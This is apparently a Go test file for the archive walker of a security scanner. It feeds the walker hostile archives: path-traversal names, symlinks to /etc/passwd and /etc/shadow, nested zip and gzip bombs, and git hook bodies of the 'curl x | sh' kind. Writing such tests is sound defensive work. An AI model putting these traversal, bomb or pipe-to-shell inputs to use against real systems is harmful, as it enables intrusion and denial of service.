package scan

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/bulwark-sec/bulwark"
)

func TestWalkArchives(t *testing.T) {
	t.Parallel()
	small := Limits{MaxFileBytes: 1 << 20, MaxTotalBytes: 8 << 20, MaxFiles: 1000, MaxDepth: 3, MaxRatio: 100}
	zeros := strings.Repeat("\x00", 512<<10)

	// 42.zip-style: four levels of 16 copies of the level below; the
	// bottom holds 16 members of 512 KiB of zeros (32 GiB in all).
	level := make([]ent, 16)
	for i := range level {
		level[i] = ent{name: string(rune('a'+i)) + ".bin", body: zeros}
	}
	bomb := zipOf(t, level...)
	for range 3 {
		for i := range level {
			level[i] = ent{name: string(rune('a'+i)) + ".zip", body: string(bomb)}
		}
		bomb = zipOf(t, level...)
	}

	innerZip := zipOf(t, ent{name: "x.js", body: "require('child_process')"})
	innerTgz := gz(t, tarOf(t, ent{name: "inner.zip", body: string(innerZip)}))

	tests := []struct {
		name    string
		file    string
		data    []byte
		lim     Limits
		want    []string // paths handed over, in order
		notes   []string // substrings of Skipped, in any order
		incompl bool
		check   func(t *testing.T, s seen, st WalkStats)
	}{
		{
			name: "tar traversal", file: "t.tar",
			data: tarOf(t, ent{name: "../evil.js", body: "x"}, ent{name: "/etc/cron.d/x", body: "x"},
				ent{name: `C:\Windows\x.js`, body: "x"}, ent{name: "a/../../b.js", body: "x"},
				ent{name: `a\..\..\c.js`, body: "x"}, ent{name: "./ok/./x.js", body: "ok"}),
			// Listed as unread (the scanner reports each as path
			// traversal) and read under the name an extractor that drops
			// the unsafe parts writes; never written anywhere.
			want:    []string{"evil.js", "etc/cron.d/x", "Windows/x.js", "a/b.js", "a/c.js", "ok/x.js"},
			notes:   []string{"path traversal", "an absolute path", "a Windows drive letter"},
			incompl: true,
			check:   wantUnread(5, UnreadUnsafeName),
		},
		{
			name: "zip traversal", file: "z.zip",
			data: zipOf(t, ent{name: `..\..\evil.js`, body: "x"}, ent{name: `\abs.js`, body: "x"},
				ent{name: "C:/win.js", body: "x"}, ent{name: "/abs2.js", body: "x"}, ent{name: `dir\ok.js`, body: "ok"}),
			want:    []string{"evil.js", "abs.js", "win.js", "abs2.js", "dir/ok.js"},
			notes:   []string{"path traversal", "an absolute path", "a Windows drive letter"},
			incompl: true,
			check:   wantUnread(4, UnreadUnsafeName),
		},
		{
			name: "tar symlink out, hard link, device", file: "t.tar",
			data: tarOf(t, ent{name: "lnk", typ: tar.TypeSymlink, link: "../../../../etc/passwd"},
				ent{name: "hard", typ: tar.TypeLink, link: "/etc/shadow"},
				ent{name: "dev", typ: tar.TypeChar}, ent{name: "fifo", typ: tar.TypeFifo},
				ent{name: "dir/", typ: tar.TypeDir}, ent{name: "dir/a.js", body: "a"}),
			want:    []string{"lnk", "hard", "dir/a.js"}, // a hard link out of the archive is handed over as a link
			notes:   []string{`"hard": a hard link`, `"dev": a device`, `"fifo": a device or pipe`},
			incompl: true, // the hard link's content is unread
			check: func(t *testing.T, s seen, st WalkStats) {
				l := s.files["lnk"]
				if l.Mode&fs.ModeSymlink == 0 || l.Link != "../../../../etc/passwd" || len(l.Data) != 0 || st.Links != 2 || s.files["hard"].Link != "/etc/shadow" {
					t.Errorf("link = %+v, links %d", l, st.Links)
				}
			},
		},
		{
			name: "zip symlink", file: "z.zip",
			data: zipOf(t, ent{name: "lnk", mode: fs.ModeSymlink | 0o777, link: "/etc/passwd"}),
			want: []string{"lnk"},
			check: func(t *testing.T, s seen, st WalkStats) {
				if l := s.files["lnk"]; l.Link != "/etc/passwd" || l.Mode&fs.ModeSymlink == 0 {
					t.Errorf("link = %+v", l)
				}
			},
		},
		{
			name: "nested zip in tgz in zip", file: "outer.zip",
			data: zipOf(t, ent{name: "a.tgz", body: string(innerTgz)}),
			want: []string{"a.tgz", "a.tgz!/inner.zip", "a.tgz!/inner.zip!/x.js"},
			check: func(t *testing.T, s seen, st WalkStats) {
				if string(s.files["a.tgz!/inner.zip!/x.js"].Data) != "require('child_process')" || st.Archives != 3 {
					t.Errorf("inner = %q, archives %d", s.files["a.tgz!/inner.zip!/x.js"].Data, st.Archives)
				}
			},
		},
		{
			name: "nesting beyond MaxDepth", file: "outer.zip",
			data:    zipOf(t, ent{name: "a.tgz", body: string(innerTgz)}),
			lim:     Limits{MaxDepth: 1},
			want:    []string{"a.tgz", "a.tgz!/inner.zip"},
			notes:   []string{`"a.tgz!/inner.zip": an archive nested deeper than 1 levels`},
			incompl: true,
		},
		{
			name: "zip magic without the extension", file: "homework.pdf",
			data: zipOf(t, ent{name: "package.json", body: "{}"}),
			want: []string{"package.json"},
		},
		{
			name: "member lying about its size", file: "z.zip",
			data:    lyingZip(t, "small.txt", 1000, 16<<20),
			want:    nil,
			notes:   []string{`"small.txt": decompresses beyond its declared 1000 bytes`},
			incompl: true,
		},
		{
			name: "member over the ratio", file: "z.zip",
			data: zipOf(t, ent{name: "zeros.bin", body: strings.Repeat("\x00", 8<<20)}, ent{name: "ok.js", body: "ok"}),
			// Read like any other member: skipping it would hide what it
			// holds, and the file and total limits bound the cost.
			want: []string{"zeros.bin", "ok.js"},
		},
		{
			name: "42.zip", file: "42.zip", data: bomb, lim: small, incompl: true,
			notes: []string{"the total limit"},
			check: func(t *testing.T, s seen, st WalkStats) {
				if st.Bytes > small.MaxTotalBytes {
					t.Errorf("read %d bytes, over the limit %d", st.Bytes, small.MaxTotalBytes)
				}
				if !slices.Contains(s.paths, "a.zip!/a.zip!/a.zip") || slices.ContainsFunc(s.paths, func(p string) bool { return strings.Count(p, "!/") > 3 }) {
					t.Errorf("paths %v", s.paths[:min(len(s.paths), 10)])
				}
			},
		},
		{
			name: "gzip bomb", file: "bomb.tgz",
			data:    gz(t, tarOf(t, ent{name: "a.js", body: "a"}, ent{name: "zeros", body: strings.Repeat("\x00", 8<<20)}, ent{name: "b.js", body: "b"})),
			lim:     Limits{MaxFileBytes: 1024, MaxTotalBytes: 4 << 20},
			want:    []string{"a.js", "zeros"},
			notes:   []string{`bomb.tgz": the gzip stream expands beyond`},
			incompl: true,
		},
		{
			name: "gzip of no tar inside", file: "t.tar",
			data:  tarOf(t, ent{name: "asset.css.gz", body: string(gz(t, []byte(strings.Repeat("body{}", 100))))}),
			want:  []string{"asset.css.gz"},
			notes: []string{`"asset.css.gz": compressed data that is not a tar archive`},
		},
		{
			name: "npm pack tarball", file: "pkg-1.0.0.tgz",
			data: gz(t, tarOf(t, ent{name: "package/package.json", body: `{"scripts":{"postinstall":"node x.js"}}`}, ent{name: "package/x.js", body: "x"})),
			want: []string{"package/package.json", "package/x.js"},
		},
		{
			name: "git objects skipped, hooks kept", file: "r.tar",
			data: tarOf(t, ent{name: ".git/objects/ab/" + strings.Repeat("c", 38), body: "x\x01\x00\x00"}, ent{name: ".git/hooks/post-checkout", body: "curl x|sh"},
				ent{name: ".git/config", body: "[core]"}),
			want:  []string{".git/hooks/post-checkout", ".git/config"},
			notes: []string{`".git/objects": git's object store`},
		},
		{
			name: "file over MaxFileBytes", file: "t.tar",
			data: tarOf(t, ent{name: "big.js", body: strings.Repeat("a", 3000)}, ent{name: "next.js", body: "n"}),
			lim:  Limits{MaxFileBytes: 1000},
			want: []string{"big.js", "next.js"},
			check: func(t *testing.T, s seen, st WalkStats) {
				if f := s.files["big.js"]; !f.Truncated || len(f.Data) != 1000 || f.Size != 3000 || st.Truncated != 1 {
					t.Errorf("big.js: truncated %v, %d bytes, size %d", f.Truncated, len(f.Data), f.Size)
				}
			},
		},
		{
			name: "MaxFiles", file: "t.tar",
			data: tarOf(t, ent{name: "1", body: "1"}, ent{name: "2", body: "2"}, ent{name: "3", body: "3"}),
			lim:  Limits{MaxFiles: 2}, want: []string{"1", "2"}, incompl: true,
			notes: []string{"stopped after 2 files, the file limit"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			lim := tc.lim
			if lim == (Limits{}) {
				lim = DefaultLimits()
			}
			s, st, err := walkAll(t, write(t, tc.file, tc.data), lim)
			if err != nil {
				t.Fatalf("Walk: %v", err)
			}
			if tc.want != nil || tc.check == nil {
				if !slices.Equal(s.paths, tc.want) {
					t.Errorf("paths = %q, want %q", s.paths, tc.want)
				}
			}
			all := strings.Join(st.Skipped, "\n")
			for _, n := range tc.notes {
				if !strings.Contains(all, n) {
					t.Errorf("skipped notes lack %q:\n%s", n, all)
				}
			}
			if st.Incomplete != tc.incompl {
				t.Errorf("incomplete = %v, want %v (%s)", st.Incomplete, tc.incompl, all)
			}
			if tc.check != nil {
				tc.check(t, s, st)
			}
		})
	}
}

func TestWalkBadArchives(t *testing.T) {
	t.Parallel()
	files := make([]ent, 20)
	for i := range files {
		files[i] = ent{name: "f" + string(rune('a'+i)) + ".js", body: strings.Repeat("let x = "+string(rune('a'+i))+";\n", 400)}
	}
	tgz := gz(t, tarOf(t, files...))
	tarb := tarOf(t, files...)
	tests := []struct {
		name, file string
		data       []byte
		err        string // substring of the error; "" for none
		notes      string
	}{
		{name: "corrupt zip", file: "test.zip", data: []byte("PK\x03\x04 this is not a zip at all"), err: "test.zip: not a readable zip archive"},
		{name: "zip cut short", file: "test.zip", data: zipOf(t, files...)[:len(zipOf(t, files...))/2], err: "test.zip: not a readable zip archive"},
		{name: "not gzip", file: "test.tgz", data: []byte("hello"), err: "test.tgz: not a gzip-compressed tar"},
		{name: "gzip of no tar", file: "test.tgz", data: gz(t, bytes.Repeat([]byte("not a tar "), 100)), err: "test.tgz: not a readable tar archive"},
		{name: "truncated tgz", file: "test.tgz", data: tgz[:len(tgz)/2], notes: `/test.tgz": the archive is truncated`},
		{name: "truncated tar", file: "test.tar", data: tarb[:len(tarb)/2], notes: "the archive is truncated"},
		{name: "empty gzip header", file: "test.tgz", data: []byte{0x1f, 0x8b, 8}, err: "test.tgz: not a readable gzip stream"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			s, st, err := walkAll(t, write(t, tc.file, tc.data), Limits{})
			if tc.err == "" {
				if err != nil {
					t.Fatalf("Walk: %v", err)
				}
				if !st.Incomplete || !strings.Contains(strings.Join(st.Skipped, "\n"), tc.notes) {
					t.Errorf("stats = %+v, want a note %q", st, tc.notes)
				}
				if len(s.paths) == 0 || len(s.paths) == len(files) {
					t.Errorf("read %d of %d files of a truncated archive", len(s.paths), len(files))
				}
				return
			}
			if bulwark.ErrorCode(err) != bulwark.EINVALID || !strings.Contains(err.Error(), tc.err) {
				t.Errorf("err = %v, want EINVALID with %q", err, tc.err)
			}
		})
	}
}

func TestWalkDir(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	mk := func(p, body string) {
		full := filepath.Join(root, filepath.FromSlash(p))
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	mk("package.json", "{}")
	mk("src/index.js", "console.log(1)")
	mk(".git/objects/ab/cdef", "blob") // not named like an object: read
	mk(".git/objects/ab/"+strings.Repeat("c", 38), "x\x01\x00\x00")
	mk(".git/hooks/pre-commit", "curl x | sh")
	mk(".git/config", "[core]")
	mk("node_modules/evil/index.js", "eval(x)")
	mk("vendor/lib.zip", string(zipOf(t, ent{name: "a.js", body: "a"})))
	// Over the file limit below: opened from the file all the same.
	mk("vendor/big.tgz", string(gz(t, tarOf(t, ent{name: "pad", body: randomText(3000)}, ent{name: "b.js", body: "b"}))))
	for _, l := range []struct{ name, target string }{{"loop", "."}, {"src/up", ".."}, {"out", "/etc"}, {"passwd", "/etc/passwd"}} {
		if err := os.Symlink(l.target, filepath.Join(root, filepath.FromSlash(l.name))); err != nil {
			t.Fatal(err)
		}
	}
	s, st, err := walkAll(t, root, Limits{MaxDepth: 1, MaxFileBytes: 1000})
	if err != nil {
		t.Fatal(err)
	}
	want := []string{".git/config", ".git/hooks/pre-commit", ".git/objects/ab/cdef", "loop", "node_modules/evil/index.js", "out",
		"package.json", "passwd", "src/index.js", "src/up", "vendor/big.tgz", "vendor/big.tgz!/pad", "vendor/big.tgz!/b.js",
		"vendor/lib.zip", "vendor/lib.zip!/a.js"}
	if !slices.Equal(s.paths, want) {
		t.Errorf("paths = %q\nwant %q", s.paths, want)
	}
	if f := s.files["loop"]; f.Link != "." || f.Mode&fs.ModeSymlink == 0 {
		t.Errorf("loop = %+v", f)
	}
	if st.Links != 4 || st.NodeModulesFiles != 1 || st.Archives != 2 || st.Incomplete || !s.files["vendor/big.tgz"].Truncated {
		t.Errorf("stats = %+v", st)
	}
	if !strings.Contains(strings.Join(st.Skipped, "\n"), `".git/objects": git's object store`) {
		t.Errorf("skipped = %q", st.Skipped)
	}
	// Deterministic: a second walk sees the same.
	s2, _, _ := walkAll(t, root, Limits{MaxDepth: 1, MaxFileBytes: 1000})
	if !slices.Equal(s.paths, s2.paths) {
		t.Errorf("second walk = %q", s2.paths)
	}
}

func TestWalkErrors(t *testing.T) {
	t.Parallel()
	if _, err := Walk(context.Background(), filepath.Join(t.TempDir(), "missing"), Limits{}, func(*File) error { return nil }); bulwark.ErrorCode(err) != bulwark.EINVALID || !strings.Contains(err.Error(), "missing: cannot be read") {
		t.Errorf("missing path: %v", err)
	}
	if _, err := Walk(context.Background(), t.TempDir(), Limits{MaxFiles: -1}, func(*File) error { return nil }); bulwark.ErrorCode(err) != bulwark.EINVALID {
		t.Errorf("negative limit: %v", err)
	}
	p := write(t, "t.tar", tarOf(t, ent{name: "a", body: "a"}, ent{name: "b", body: "b"}))
	stop := errors.New("stop")
	n := 0
	if _, err := Walk(context.Background(), p, Limits{}, func(*File) error { n++; return stop }); err != stop || n != 1 {
		t.Errorf("fn error: %v after %d files", err, n)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Walk(ctx, p, Limits{}, func(*File) error { return nil }); bulwark.ErrorCode(err) != bulwark.ETIMEOUT {
		t.Errorf("cancelled: %v", err)
	}
	// Limits{} is DefaultLimits(): nested archives are opened.
	nested := write(t, "n.zip", zipOf(t, ent{name: "in.zip", body: string(zipOf(t, ent{name: "a", body: "a"}))}))
	if s, _, err := walkAll(t, nested, Limits{}); err != nil || !slices.Equal(s.paths, []string{"in.zip", "in.zip!/a"}) {
		t.Errorf("zero limits: %q, %v", s.paths, err)
	}
	// A plain file is a tree of one file.
	s, _, err := walkAll(t, write(t, "x.js", []byte("eval(1)")), Limits{})
	if err != nil || !slices.Equal(s.paths, []string{"x.js"}) {
		t.Errorf("single file: %q, %v", s.paths, err)
	}
}

func TestSafeName(t *testing.T) {
	t.Parallel()
	for name, want := range map[string]string{
		"a/b.js": "a/b.js", "./a//b.js": "a/b.js", `a\b.js`: "a/b.js", "../a": "", "/a": "", `\a`: "",
		"c:x": "", "C:/x": "", "a/../b": "", "": "", ".": "", "a\x00b": "", "xy:z": "xy:z", "x:y": "", "...": "...",
	} {
		if got, _ := safeName(name); got != want {
			t.Errorf("safeName(%q) = %q, want %q", name, got, want)
		}
	}
}

// wantUnread checks that a walk listed n parts as unread, all for reason.
func wantUnread(n int, reason string) func(*testing.T, seen, WalkStats) {
	return func(t *testing.T, _ seen, st WalkStats) {
		t.Helper()
		if len(st.Unread) != n {
			t.Errorf("unread = %+v, want %d", st.Unread, n)
		}
		for _, u := range st.Unread {
			if u.Reason != reason {
				t.Errorf("unread %+v, want reason %s", u, reason)
			}
		}
	}
}
